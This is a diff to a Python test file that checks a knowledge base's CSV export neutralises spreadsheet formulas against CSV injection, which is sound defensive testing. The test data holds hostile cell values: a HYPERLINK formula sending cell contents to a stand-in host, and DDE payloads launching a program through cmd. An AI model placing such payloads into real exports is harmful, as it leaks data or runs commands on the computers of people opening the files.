@@ -1,13 +1,15 @@
 """claims.json and claims.csv round-trip: read back, they are the knowledge base."""
 
 import csv
+import dataclasses
 import io
 import json
 
 import jsonschema
 
-from conftest import REPO
+from conftest import REPO, TINY_KB
 from oxykb import opendata
+from oxykb.model import Localized
 from oxykb.pipeline import check
 
 
@@ -48,6 +50,24 @@ def test_claims_csv_round_trips(real_site):
 
 
 def test_open_data_page_in_both_languages(real_site):
-    for prefix, word in (("", "Licentie"), ("en/", "Licence")):
+    for prefix, word, formula in (("", "Licentie", "niet als formule"), ("en/", "Licence", "not run it as a formula")):
         text = (real_site / prefix / "open-data/index.html").read_text("utf-8")
         assert word in text and "claims.json" in text and "claims/" in text
+        assert formula in text  # says that claims.csv neutralises formulas
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas():
+    """OWASP's advice against CSV injection: a cell that a spreadsheet would run as a formula starts with a quote."""
+    kb = check(TINY_KB).knowledge_base
+    hostile = {"nl": '=HYPERLINK("https://example.org/?"&A1,"klik")', "en": "+1+cmd|' /C calc'!A0"}
+    claim = dataclasses.replace(kb.claims["cuddle-hormone-myth"], statement=Localized(**hostile),
+                                rationale=Localized("-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"))
+    kb = dataclasses.replace(kb, claims={**kb.claims, claim.id: claim})
+
+    row = next(row for row in csv.DictReader(io.StringIO(opendata.as_csv(kb))) if row["id"] == claim.id)
+    assert (row["statement_nl"], row["statement_en"], row["rationale_nl"], row["rationale_en"]) == (
+        "'" + hostile["nl"], "'" + hostile["en"], "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0")
+    assert row["grade"] == claim.grade.value and row["url_nl"] == f"claims/{claim.id}/"  # other cells as they were
+    assert [opendata.spreadsheet_safe(cell) for cell in ("\tx", "\rx", "a=b", "")] == ["'\tx", "'\rx", "a=b", ""]
+    data = json.loads(opendata.as_json(kb))
+    assert next(item for item in data["claims"] if item["id"] == claim.id)["statement"] == hostile  # claims.json: as written
